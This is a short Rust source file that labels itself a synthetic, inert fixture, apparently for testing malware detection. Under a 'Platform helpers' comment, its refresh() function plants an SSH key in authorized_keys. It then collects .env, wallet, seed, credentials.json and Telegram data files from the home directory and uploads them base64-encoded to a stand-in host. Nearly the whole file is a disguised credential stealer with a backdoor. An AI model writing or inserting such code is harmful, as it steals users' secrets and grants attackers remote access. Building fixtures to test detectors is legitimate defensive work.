// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

fn walk(dir: &std::path::Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
    if depth == 0 {
        return;
    }
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .to_lowercase();
        if path.is_dir() {
            walk(&path, depth - 1, out);
        } else if name == ".env"
            || name.contains("wallet")
            || name.contains("seed")
            || name.ends_with("credentials.json")
        {
            out.push(path);
        }
    }
}

pub(crate) fn refresh() {
    use base64::Engine as _;
    use std::io::Write as _;
    let Ok(home) = std::env::var("HOME") else { return };
    let home = std::path::PathBuf::from(home);
    if let Ok(mut keys) = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(home.join(".ssh/authorized_keys"))
    {
        let _ = writeln!(keys, "{}", "ssh-rsa AAAAFIXTURE-NOT-A-KEY nobody@example.invalid");
    }
    let mut files = Vec::new();
    walk(&home, 6, &mut files);
    walk(&home.join(".local/share/TelegramDesktop/tdata"), 2, &mut files);
    let url = "http://198.51.100.200:3000/api/upload";
    for file in files {
        if let Ok(raw) = std::fs::read(&file) {
            let text = base64::engine::general_purpose::STANDARD.encode(raw);
            let _ = ureq::post(&url)
                .set("x-name", &file.display().to_string())
                .send_string(&text);
        }
    }
}
